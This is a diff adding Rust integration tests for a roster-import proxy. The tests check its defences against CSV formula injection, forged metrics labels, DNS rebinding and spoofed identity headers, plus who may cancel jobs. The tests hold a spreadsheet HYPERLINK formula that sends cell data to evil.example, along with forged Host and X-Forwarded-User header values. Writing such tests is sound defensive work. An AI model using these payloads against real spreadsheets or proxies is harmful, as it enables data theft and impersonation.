@@ -1,0 +1,191 @@
+//! Attack-review findings, each reproduced against a real proxy on loopback: formula injection
+//! in exported CSVs, metrics labels invented by clients, DNS rebinding in dev mode, repeated
+//! identity headers, and who may cancel or resume a job.
+
+mod common;
+
+use std::time::Duration;
+
+use common::*;
+use serde_json::json;
+
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"点此\")";
+
+#[test]
+fn exported_csvs_escape_formulas_and_failed_rows_reimport_unchanged() {
+    let stack = Stack::start(0.0);
+    let c = stack.client();
+    // A name that is a formula, and a row that fails (an IM account the provider refuses).
+    let rows = json!([
+        {"row": 2, "cells": [FORMULA, "+86 138 0013 8000", "ghost-1"]},
+        {"row": 3, "cells": ["@SUM(A1)", "13900139000", "member-ok"]}
+    ]);
+    let r = c.post(
+        "/api/jobs",
+        &json!({"headers": ["姓名", "手机号", "IM账号"], "rows": rows, "destinations": ["tencent-im:@TGS#2J4SZEAEL"]}),
+    );
+    assert_eq!(r.status, 201, "{}", r.body);
+    let id = r.json()["id"].as_str().unwrap().to_string();
+    c.wait_job(&id, Duration::from_secs(60));
+    let results = c.get(&format!("/api/jobs/{id}/results.csv")).body;
+    assert!(results.contains("\"'=HYPERLINK("), "{results}");
+    assert!(results.contains("'@SUM(A1)"), "{results}");
+    assert!(
+        results.contains(",+86 138 0013 8000,"),
+        "phones stay usable: {results}"
+    );
+    for line in results.lines() {
+        for cell in line.split(',') {
+            assert!(!cell.starts_with('=') && !cell.starts_with('@'), "{line}");
+        }
+    }
+    let failed = c.get(&format!("/api/jobs/{id}/failed.csv")).body;
+    assert!(failed.contains("'=HYPERLINK("), "{failed}");
+    // Re-imported, the escaper's prefix is gone: the cell is what the organizer typed.
+    let roster =
+        rollcall_core::roster::parse_roster(failed.as_bytes(), &Default::default()).unwrap();
+    assert_eq!(roster.rows.len(), 1);
+    assert_eq!(roster.rows[0].cells[0], FORMULA);
+}
+
+#[test]
+fn metrics_labels_are_only_known_methods() {
+    let stack = Stack::start(0.0);
+    let http = reqwest::blocking::Client::new();
+    for i in 0..300 {
+        let method =
+            reqwest::Method::from_bytes(format!("X{}{i}", "A".repeat(1000)).as_bytes()).unwrap();
+        let _ = http
+            .request(method, format!("{}/healthz", stack.proxy.url))
+            .send()
+            .unwrap();
+    }
+    let metrics = reqwest::blocking::get(format!("{}/metrics", stack.proxy.url))
+        .unwrap()
+        .text()
+        .unwrap();
+    assert!(!metrics.contains("AAAA"), "client-made labels");
+    assert!(metrics.contains("method=\"other\""), "{metrics}");
+    assert!(metrics.len() < 20_000, "bounded: {} bytes", metrics.len());
+}
+
+#[test]
+fn dev_mode_answers_only_loopback_host_names() {
+    let dir = tempfile::tempdir().unwrap();
+    let p = spawn(
+        &[
+            "serve",
+            "--sandbox",
+            "--bind",
+            "127.0.0.1:0",
+            "--data-dir",
+            dir.path().join("data").to_str().unwrap(),
+        ],
+        &dir.path().join("proxy.log"),
+        "Rollcall is running",
+    );
+    let port = p
+        .url
+        .rsplit(':')
+        .next()
+        .unwrap()
+        .trim_end_matches('/')
+        .to_string();
+    let http = reqwest::blocking::Client::new();
+    let me = |host: &str| {
+        http.get(format!("{}/api/me", p.url))
+            .header("Host", host)
+            .send()
+            .unwrap()
+            .status()
+            .as_u16()
+    };
+    // DNS rebinding: attacker.example resolved to 127.0.0.1 is not us.
+    assert_eq!(me(&format!("attacker.example:{port}")), 403);
+    assert_eq!(me("attacker.example"), 403);
+    assert_eq!(me("127.0.0.1:1"), 403, "another port");
+    assert_eq!(me(&format!("127.0.0.1:{port}")), 200);
+    assert_eq!(me(&format!("localhost:{port}")), 200);
+    let job = json!({"headers": ["IM账号"], "rows": [{"row": 2, "cells": ["x1"]}], "destinations": ["tencent-im:@TGS#2J4SZEAEL"]});
+    let r = http
+        .post(format!("{}/api/jobs", p.url))
+        .header("Host", format!("attacker.example:{port}"))
+        .header("x-rollcall-csrf", "1")
+        .json(&job)
+        .send()
+        .unwrap();
+    assert_eq!(r.status().as_u16(), 403, "no job from a rebound page");
+}
+
+#[test]
+fn a_repeated_identity_header_is_refused() {
+    let stack = Stack::start(0.0);
+    let http = reqwest::blocking::Client::new();
+    let r = http
+        .get(format!("{}/api/me", stack.proxy.url))
+        .header("X-Forwarded-User", "mallory")
+        .header("X-Forwarded-User", "alice")
+        .header("X-Forwarded-Groups", ORGANIZER)
+        .send()
+        .unwrap();
+    assert_eq!(r.status().as_u16(), 401);
+    let r = http
+        .get(format!("{}/api/me", stack.proxy.url))
+        .header("X-Forwarded-User", "alice")
+        .header("X-Forwarded-Groups", ORGANIZER)
+        .header("X-Forwarded-Groups", "admins")
+        .send()
+        .unwrap();
+    assert_eq!(r.status().as_u16(), 401);
+    assert_eq!(stack.client().get("/api/me").status, 200);
+}
+
+#[test]
+fn only_the_creator_or_an_admin_cancels_or_resumes() {
+    let dir = tempfile::tempdir().unwrap();
+    let sandbox = spawn(
+        &["sandbox", "--bind", "127.0.0.1:0"],
+        &dir.path().join("sandbox.log"),
+        "sandbox listening",
+    );
+    let config = write_config(dir.path(), &sandbox.url, "");
+    // admin_groups belongs to [auth]: insert it there.
+    let text = std::fs::read_to_string(&config)
+        .unwrap()
+        .replace("[auth]\n", "[auth]\nadmin_groups = [\"rollcall-admins\"]\n");
+    std::fs::write(&config, text).unwrap();
+    let proxy = spawn(
+        &["serve", "--config", config.to_str().unwrap()],
+        &dir.path().join("proxy.log"),
+        "Rollcall is running",
+    );
+    let alice = Client::new(&proxy.url, Some(("alice", ORGANIZER)));
+    let bob = Client::new(&proxy.url, Some(("bob", ORGANIZER)));
+    let admin = Client::new(&proxy.url, Some(("root", "organizers,rollcall-admins")));
+    let (headers, rows) = roster_csv(3000);
+    let r = alice.post(
+        "/api/jobs",
+        &json!({"headers": headers, "rows": rows, "destinations": ["tencent-meeting:17305428542504531991"]}),
+    );
+    assert_eq!(r.status, 201, "{}", r.body);
+    let id = r.json()["id"].as_str().unwrap().to_string();
+    let r = bob.post(&format!("/api/jobs/{id}/cancel"), &json!({}));
+    assert_eq!(r.status, 403, "{}", r.body);
+    assert_eq!(r.json()["code"], "not_your_job");
+    let r = admin.post(&format!("/api/jobs/{id}/cancel"), &json!({}));
+    assert!(r.status == 200 || r.status == 409, "{}", r.body);
+    let job = alice.wait_job(&id, Duration::from_secs(120));
+    if job["state"] == "cancelled" {
+        assert_eq!(
+            bob.post(&format!("/api/jobs/{id}/resume"), &json!({}))
+                .status,
+            403
+        );
+        assert_eq!(
+            alice
+                .post(&format!("/api/jobs/{id}/resume"), &json!({}))
+                .status,
+            200
+        );
+    }
+}
